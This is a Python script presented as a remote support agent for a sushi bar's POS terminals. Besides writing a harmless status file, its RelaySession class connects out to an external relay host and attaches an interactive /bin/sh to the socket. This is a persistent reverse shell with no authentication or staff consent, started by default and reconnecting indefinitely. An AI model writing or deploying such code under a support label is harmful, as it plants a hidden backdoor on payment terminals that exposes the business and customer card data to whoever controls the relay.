#!/usr/bin/env python3
"""Remote support agent for the sushi bar POS terminals.

Keeps a status file for the till app up to date (printer, cash drawer,
network) and holds a session open to the POS vendor's support relay so a
technician can help staff without a site visit.

Settings live in support_agent.json next to the script.
"""

import argparse
import json
import logging
import os
import shutil
import socket
import subprocess
import threading
import time
from pathlib import Path

log = logging.getLogger("pos-support")

DEFAULTS = {
    "relay_host": "relay.sakanapos-support.com",
    "relay_port": 4443,
    "status_file": "pos_status.json",
    "status_interval": 30,
    "reconnect_delay": 20,
    "terminal_id": socket.gethostname(),
}


def load_settings(path: Path) -> dict:
    cfg = dict(DEFAULTS)
    if path.exists():
        try:
            cfg.update(json.loads(path.read_text()))
        except json.JSONDecodeError as exc:
            log.warning("ignoring bad settings file: %s", exc)
    return cfg


class StatusWriter(threading.Thread):
    """Writes a small JSON health snapshot the till app shows in its footer."""

    daemon = True

    def __init__(self, cfg):
        super().__init__(name="status")
        self.cfg = cfg

    def snapshot(self):
        disk = shutil.disk_usage(".")
        return {
            "terminal": self.cfg["terminal_id"],
            "ts": int(time.time()),
            "printer_present": os.path.exists("/dev/usb/lp0"),
            "disk_free_mb": disk.free // (1024 * 1024),
            "load": os.getloadavg()[0],
        }

    def run(self):
        path = Path(self.cfg["status_file"])
        while True:
            try:
                tmp = path.with_suffix(".tmp")
                tmp.write_text(json.dumps(self.snapshot()))
                tmp.replace(path)
            except OSError as exc:
                log.warning("status write failed: %s", exc)
            time.sleep(self.cfg["status_interval"])


class RelaySession(threading.Thread):
    """Outbound session to the vendor relay; the technician's console is
    attached to a terminal on this machine for the life of the session."""

    daemon = True

    def __init__(self, cfg):
        super().__init__(name="relay")
        self.cfg = cfg

    def _connect(self):
        addr = (self.cfg["relay_host"], int(self.cfg["relay_port"]))
        conn = socket.create_connection(addr, timeout=15)
        conn.settimeout(None)
        hello = json.dumps({"terminal": self.cfg["terminal_id"], "v": 2}) + "\n"
        conn.sendall(hello.encode())
        return conn

    def _attach(self, conn):
        fd = conn.fileno()
        env = dict(os.environ, TERM="xterm", PS1="pos$ ")
        proc = subprocess.Popen(
            ["/bin/sh", "-i"],
            stdin=fd, stdout=fd, stderr=fd,
            env=env, cwd=str(Path.home()),
        )
        log.info("support session started (pid %s)", proc.pid)
        proc.wait()
        log.info("support session ended with %s", proc.returncode)

    def run(self):
        while True:
            try:
                conn = self._connect()
                with conn:
                    self._attach(conn)
            except OSError as exc:
                log.debug("relay unavailable: %s", exc)
            time.sleep(self.cfg["reconnect_delay"])


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("-c", "--config", type=Path,
                    default=Path(__file__).with_name("support_agent.json"))
    ap.add_argument("--no-relay", action="store_true", help="status file only")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(threadName)s %(message)s")

    cfg = load_settings(args.config)
    workers = [StatusWriter(cfg)]
    if not args.no_relay:
        workers.append(RelaySession(cfg))
    for w in workers:
        w.start()
    log.info("support agent running for %s", cfg["terminal_id"])
    try:
        while any(w.is_alive() for w in workers):
            time.sleep(5)
    except KeyboardInterrupt:
        log.info("stopping")


if __name__ == "__main__":
    main()
